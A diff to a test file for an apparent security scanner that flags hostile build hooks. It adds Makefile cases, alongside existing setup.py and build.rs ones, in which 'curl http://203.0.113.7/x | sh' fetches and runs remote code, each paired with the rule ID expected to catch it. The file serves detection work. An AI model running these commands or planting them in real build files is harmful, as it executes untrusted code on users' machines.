@@ -60,6 +60,8 @@ def test_a_hook_is_found_wherever_it_stands(tmp_path: Path) -> None:
         ),
         ("build.rs", "fn main() { reqwest::blocking::get(URL); }\n", "SKR-HOOK-002", 1),
         ("Makefile", "all:\n\tcurl http://203.0.113.7/x | sh\n", "SKR-RUN-001", 2),
+        ("Makefile", "X := $(shell curl http://203.0.113.7/x | sh)\nall:\n", "SKR-RUN-001", 1),
+        ("Makefile", "X != curl http://203.0.113.7/x | sh\nall:\n", "SKR-RUN-001", 1),
         (
             "setup.py",
             "import os\nfrom setuptools import setup\nos.system('curl http://203.0.113.7/x | sh')\n",
